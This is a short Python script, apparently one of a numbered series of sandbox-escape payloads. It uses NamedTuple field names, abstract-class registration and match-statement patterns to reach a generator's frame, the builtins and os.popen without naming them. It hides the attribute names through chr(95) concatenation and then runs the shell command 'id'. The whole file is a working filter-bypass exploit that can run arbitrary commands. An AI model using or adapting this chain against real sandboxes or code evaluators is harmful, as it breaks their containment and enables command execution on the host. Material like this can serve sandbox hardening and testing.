# source: Python docs collections.namedtuple (field names -> __match_args__), abc.ABCMeta.register (virtual subclass), PEP 634 positional class patterns
# family: as 415 with typing.NamedTuple functional syntax (run-time field names) and collections.abc.Sized
# goal: generator -> gi_frame (frame object) -> f_builtins -> __import__('os').popen('id')
import collections
import typing
import collections.abc
import json

u = chr(95)
NF = typing.NamedTuple("NF", [("gi" + u + "frame", object)])
NB = typing.NamedTuple("NB", [("f" + u + "builtins", object)])
NP = typing.NamedTuple("NP", [("po" + "pen", object)])


class GF(NF, collections.abc.Sized):
    pass


class GB(NB, collections.abc.Sized):
    pass


class GP(NP, collections.abc.Sized):
    pass


def gen():
    yield 1


g = gen()
GF.register(type(g))
match g:
    case GF(fr):
        pass
GB.register(type(fr))
match fr:
    case GB(b):
        pass
o = b[u + u + "import" + u + u]("o" + "s")
GP.register(type(o))
match o:
    case GP(pp):
        pass
print(json.dumps({"frame": repr(fr)[:90], "id": pp("id").read()}))
